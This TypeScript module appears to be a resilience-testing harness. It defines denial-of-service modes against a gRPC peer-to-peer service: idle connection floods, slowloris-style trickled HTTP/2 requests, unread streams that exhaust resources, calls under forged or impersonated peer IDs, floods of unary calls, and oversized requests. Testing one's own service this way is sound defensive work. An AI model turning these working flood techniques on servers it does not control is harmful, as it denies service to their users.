import { randomBytes } from "node:crypto";
import { connect as connectHttp2 } from "node:http2";
import { connect } from "node:net";
import { setTimeout as pause } from "node:timers/promises";
import type { ServiceError } from "@grpc/grpc-js";
import { type Message, PlainClient } from "../plain-grpc.js";
import type { Flood } from "./flood.js";

/** Whom to attack, and with how much. */
export interface Target {
  /** `host:port` */
  readonly address: string;
  readonly contentId: string;
  readonly count: number;
  /** Pieces that are asked for in one request. */
  readonly pieces: number;
  /** 16 bytes that an honest peer calls its own. */
  readonly peerId: Uint8Array;
}

/** Something that can be done to a peer that serves. */
export interface CallerAttack {
  readonly what: string;
  /** Resolves when everything has begun; goes on until the process ends. */
  run(target: Target, flood: Flood): Promise<void>;
}

const PEER_SERVICE = "piecewise.v1.PeerService";
const CALLS_PER_CONNECTION = 200;
const TRICKLE_MS = 1_000;
const BIG_REQUEST_BYTES = 9 * 1024;

const freshCaller = (): Message => ({ peerId: randomBytes(16), port: 0 });

/** Many calls of one method, each of which is read to its first word and no further. */
const streams = (what: string, method: string, firstWord: "metadata" | "data", requestOf: (target: Target) => Message): CallerAttack => ({
  what,
  async run(target, flood) {
    const clients = Array.from({ length: Math.ceil(target.count / CALLS_PER_CONNECTION) }, () => new PlainClient(target.address));
    await Promise.allSettled(clients.map((client) => client.connect()));
    for (let index = 0; index < target.count; index += 1) {
      const request = { contentId: target.contentId, ...requestOf(target) };
      flood.follow(clients[index % clients.length]!.stream(PEER_SERVICE, method, request), firstWord);
    }
  },
});

/** Many calls of a unary method, as fast as they are answered. */
const calls = (what: string, method: string, request: Message): CallerAttack => ({
  what,
  async run({ address, contentId, count }, flood) {
    const client = new PlainClient(address);
    const call = async (): Promise<void> => {
      flood.started();
      try {
        await client.unary(PEER_SERVICE, method, { contentId, ...request });
        flood.opened();
      } catch (error) {
        flood.ended(error as ServiceError, false);
      }
    };
    await Promise.all(Array.from({ length: count }, call));
  },
});

const connections: CallerAttack = {
  what: "connections on which nothing is said",
  async run({ address, count }, flood) {
    const [host, port] = [address.replace(/:\d+$/, ""), Number(/\d+$/.exec(address)![0])];
    for (let index = 0; index < count; index += 1) {
      const socket = connect({ host, port });
      let isOpen = false;
      flood.started();
      socket.once("connect", () => {
        isOpen = true;
        flood.opened();
      });
      socket.on("error", () => {});
      socket.resume().once("close", () => flood.refused("closed", isOpen));
      // Not all of them at once, which would be an attack on the system below.
      if (index % 100 === 99) await pause(10);
    }
  },
};

const halfRequests: CallerAttack = {
  what: "requests of which one byte a second comes",
  async run({ address, count }, flood) {
    const path = `/${PEER_SERVICE}/Identify`;
    const sessions = Array.from({ length: Math.ceil(count / CALLS_PER_CONNECTION) }, () => connectHttp2(`http://${address}`));
    for (const session of sessions) session.on("error", () => {});
    for (let index = 0; index < count; index += 1) {
      const request = sessions[index % sessions.length]!.request({ ":method": "POST", ":path": path, "content-type": "application/grpc", te: "trailers" });
      flood.started();
      flood.opened();
      request.on("response", (headers) => flood.refused(`code ${headers["grpc-status"]}`, true));
      request.on("error", () => {});
      void trickle(request);
    }
  },
};

async function trickle(request: NodeJS.WritableStream & { readonly destroyed?: boolean }): Promise<void> {
  request.write(Buffer.of(0, 0, 0, 0x10, 0));
  while (request.destroyed !== true) {
    request.write(Buffer.of(0));
    await pause(TRICKLE_MS, undefined, { ref: false });
  }
}

/** Everything, by the name under which it is run. */
export const CALLER_ATTACKS: Readonly<Record<string, CallerAttack>> = {
  connections,
  "half-requests": halfRequests,
  "watchers-of-one": streams("WatchPieces without end, of one caller that does not name itself", "WatchPieces", "data", () => ({})),
  "watchers-with-fresh-ids": streams("WatchPieces without end, each under another id", "WatchPieces", "data", () => ({ caller: freshCaller() })),
  "watchers-with-claimed-id": streams("WatchPieces without end, under the id of an honest peer", "WatchPieces", "data", ({ peerId }) => ({ caller: { peerId, port: 0 } })),
  "requests-with-fresh-ids": streams("GetPiece of so many pieces, each under another id, and none is read", "GetPiece", "metadata", ({ pieces }) => ({ pieceCount: pieces, caller: freshCaller() })),
  "requests-of-one": streams("GetPiece of so many pieces, of one caller, and none is read", "GetPiece", "metadata", ({ pieces, peerId }) => ({ pieceCount: pieces, caller: { peerId, port: 0 } })),
  "manifests-unread": streams("GetManifest, and none is read", "GetManifest", "metadata", () => ({ caller: freshCaller() })),
  exchanges: calls("ExchangePeers, as many as go", "ExchangePeers", {}),
  reports: calls("reports of pieces that are right", "ReportBadPiece", { pieceIndex: 0 }),
  "big-requests": calls("requests of 9 KiB", "ExchangePeers", { caller: { peerId: Buffer.alloc(BIG_REQUEST_BYTES) } }),
};
